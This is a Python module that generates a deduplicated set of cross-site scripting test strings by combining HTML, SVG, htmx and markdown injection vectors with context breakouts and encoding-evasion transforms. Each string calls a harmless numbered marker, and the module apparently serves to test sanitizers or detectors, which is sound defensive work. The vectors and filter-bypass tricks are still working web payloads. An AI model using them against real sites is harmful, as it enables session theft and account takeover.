"""Texts that would run if a page took them as markup: vectors, contexts, and ways to write them.

Each calls `ran(N)` with a number of its own, where N says which it is. They are combined here, not
copied from a list; those that come first hold one of every vector.
"""

from __future__ import annotations

import html
from itertools import product
from random import Random
from urllib.parse import quote

WANTED = 1_500
SEED = 5
CALL = "ran({})"
VECTORS = (
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<script>{0}</script>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<details open ontoggle={0}>x</details>",
    "<video><source onerror={0}></video>",
    "<input autofocus onfocus={0}>",
    "<a href='javascript:{0}'>x</a>",
    "<form><button formaction='javascript:{0}'>x</button></form>",
    "<object data='javascript:{0}'></object>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href='javascript:{0}//'>",
    "<svg><animate onbegin={0} attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:{0}'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    "<div hx-get=/login hx-trigger=load hx-on:load='{0}'>x</div>",
    "<div data-hx-on:load='{0}' hx-on::load='{0}'>x</div>",
    "<body onpageshow={0}>",
    "<marquee onstart={0}>x</marquee>",
    "<link rel=stylesheet href=x onerror={0}>",
    "<template><script>{0}</script></template><slot>",
    "[x](javascript:{0})",
    '![x](x"onerror="{0})',
    "<javascript:{0}>",
    "[x][y]\n\n[y]: javascript:{0}",
    "[x](data:text/html,<script>{0}</script>)",
    " autofocus onfocus={0} x=",
    "-{0}-",
    ";{0}//",
    "${{{0}}}{{{{{0}}}}}",
)
CONTEXTS = (
    *("", '">', "'>", '"', "'", "`", "-->", "]]>", "</script>", "</style>", "</title>"),
    *("</textarea>", "</option></select>", "</noscript>", "</template></details>", '\\"', "\\';"),
)
"""What ends the place where a text may stand, before the vector."""


def _plain(text: str) -> str:
    return text


def _mixed(text: str) -> str:
    return "".join(each.upper() if at % 2 else each for at, each in enumerate(text))


def _escaped_signs(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\u003e")


def _tabbed(text: str) -> str:
    return (
        text.replace("javascript:", "java\tscript:").replace("<img ", "<img/").replace(" on", "/on")
    )


def _wide(text: str) -> str:
    return text.replace("<", "\uff1c").replace(">", "\uff1e")


def _halved(text: str) -> str:
    return text.replace("<", "<\u200b<", 1)


WAYS = (
    _plain,
    html.escape,
    _tabbed,
    _mixed,
    quote,
    _escaped_signs,
    lambda text: html.escape(html.escape(text)),
    lambda text: text.replace("javascript:", "&#106;avascript&colon;"),
    _wide,
    _halved,
)
"""What a text may have been through before it is typed."""


def payloads(count: int = WANTED) -> list[str]:
    """Return so many, all different: every vector in every context, then of the other ways."""
    plain = list(product((_plain,), CONTEXTS, VECTORS))
    others = list(product(WAYS[1:], CONTEXTS, VECTORS))
    Random(SEED).shuffle(others)
    found: dict[str, None] = {}
    for number, (way, context, vector) in enumerate([*plain, *others]):
        called = vector.format(CALL.format(number))
        found[context + (_mixed_tags(called) if way is _mixed else way(called))] = None
        if len(found) == count:
            break
    return list(found)


def _mixed_tags(text: str) -> str:
    """Mix the letters of a text, but not of the call in it."""
    before, call, after = text.partition("ran(")
    return _mixed(before) + call + after.replace("</script>", "</sCrIpT>")
